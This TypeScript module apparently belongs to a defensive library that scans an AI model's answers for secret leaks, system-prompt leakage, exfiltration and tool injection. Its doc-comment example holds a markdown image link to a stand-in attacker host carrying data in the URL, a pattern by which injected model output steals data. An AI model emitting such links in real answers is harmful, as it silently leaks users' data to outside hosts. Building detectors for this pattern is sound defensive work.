// The output scanners together: one ScanResult for a model's answer. Which scanners run follows
// the options: leaks always; prompt leakage with canaries or a system prompt; exfiltration always,
// markdown/HTML and fenced code calling out (an empty allow-list allows no host); tool injection only for answers that flow into a tool sink.
import type { Finding, ScanResult } from '../types.js';
import { scanLeaks, type LeakScanOptions } from './leaks.js';
import { scanPromptLeak, type PromptLeakOptions } from './canary.js';
import { scanExfil, type ExfilOptions } from './exfil.js';
import { scanCodeExfil, type CodeExfilOptions } from './code-exfil.js';
import { scanToolInjection, type ToolSink } from './tool-injection.js';

export interface OutputScanOptions extends LeakScanOptions, PromptLeakOptions, ExfilOptions, CodeExfilOptions {
  /** The tools the answer flows into (default none: no tool-injection scan). */
  readonly sinks?: readonly ToolSink[];
  /** Flag at this score (default 0.5). */
  readonly threshold?: number;
}

/**
 * @example
 * ```ts
 * scanOutput('![x](https://evil.example/p?d=...)', { allowedHosts: ['docs.example.com'] })
 * // { flagged: true, score: 0.9, findings: [{ scanner: 'output.exfil', rule: 'image', ... }] }
 * ```
 */
export function scanOutput(text: string, options: OutputScanOptions = {}): ScanResult {
  if (typeof text !== 'string') throw new TypeError('text must be a string');
  const threshold = options.threshold ?? 0.5;
  const findings: Finding[] = [
    ...scanLeaks(text, options),
    ...(options.canaries !== undefined || options.systemPrompt !== undefined ? scanPromptLeak(text, options) : []),
    ...scanExfil(text, options),
    ...scanCodeExfil(text, options),
    ...(options.sinks !== undefined && options.sinks.length > 0 ? scanToolInjection(text, options.sinks) : []),
  ].sort((a, b) => a.start - b.start || b.score - a.score);
  const score = findings.reduce((m, f) => Math.max(m, f.score), 0);
  return { flagged: score >= threshold, score, findings };
}
